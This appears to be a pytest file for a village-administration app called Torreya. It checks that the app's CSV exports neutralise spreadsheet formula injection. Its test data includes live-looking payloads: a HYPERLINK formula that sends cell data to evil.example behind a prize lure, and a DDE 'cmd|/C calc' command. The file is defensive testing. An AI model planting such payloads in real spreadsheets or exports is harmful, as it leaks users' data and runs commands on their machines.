"""Issue 26 (4): no CSV Torreya writes runs a formula when a committee opens it in Excel or
WPS: every text cell starting with = + - @, a tab or a carriage return is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from tests.factories import make_user, make_village, web_login
from torreya.db import now
from torreya.models import Pledge, PledgeSignature, Role
from torreya.spreadsheet import FORMULA_STARTS, csv_text

pytestmark = pytest.mark.usefixtures("clean_audit")
ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我领奖")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the mark
    return [c for row in csv.reader(io.StringIO(text[1:])) for c in row]


def _assert_inert(text: str, *expected: str) -> None:
    cells = _cells(text)
    # A negative number is a number to a spreadsheet, not a formula.
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)
                and not c.removeprefix("-").isdigit()], cells
    for attack in expected:
        assert "'" + attack in cells, (attack, cells)


def test_every_formula_start_is_written_as_text_and_numbers_stay_numbers():
    text = csv_text([ATTACKS, [-5, 12, "普通文字", ""]])
    _assert_inert(text, *ATTACKS)
    assert _cells(text)[-4:] == ["-5", "12", "普通文字", ""]


async def test_the_roster_export_neutralises_a_self_chosen_name(client):
    village = await make_village()
    for i, name in enumerate(ATTACKS):
        await make_user(village=village, display_name=name, username=f"attack{i}")
    await make_user(village=village, display_name="王秀英", username="@wxy")
    await web_login(client, await make_user(Role.STAFF, village))
    answer = await client.get(f"/console/villages/{village.id}/residents.csv")
    assert answer.status_code == 200
    _assert_inert(answer.text, *ATTACKS, "@wxy")


async def test_the_signatures_export_neutralises_names_and_usernames(client):
    village = await make_village()
    pledge = await Pledge.create(village=village, town_id=village.town_id, title="反诈承诺书",
                                 text="我承诺", points=0, confirmations=[])
    for i, name in enumerate(ATTACKS):
        person = await make_user(village=village, display_name=name, username=f"-u{i}")
        await PledgeSignature.create(pledge_id=pledge.id, user_id=person.id,
                                     village_id=village.id, signed_name=name, points=0,
                                     created_at=now())
    await web_login(client, await make_user(Role.STAFF, village))
    answer = await client.get(f"/console/pledges/{pledge.id}/signatures.csv")
    assert answer.status_code == 200
    _assert_inert(answer.text, *ATTACKS, "-u0")


async def test_the_monthly_report_neutralises_a_village_name(client):
    village = await make_village(name="=1+2 村")
    await web_login(client, await make_user(Role.VILLAGE_ADMIN, village))
    answer = await client.get(f"/console/villages/{village.id}/report.csv")
    assert answer.status_code == 200
    _assert_inert(answer.text, "=1+2 村")
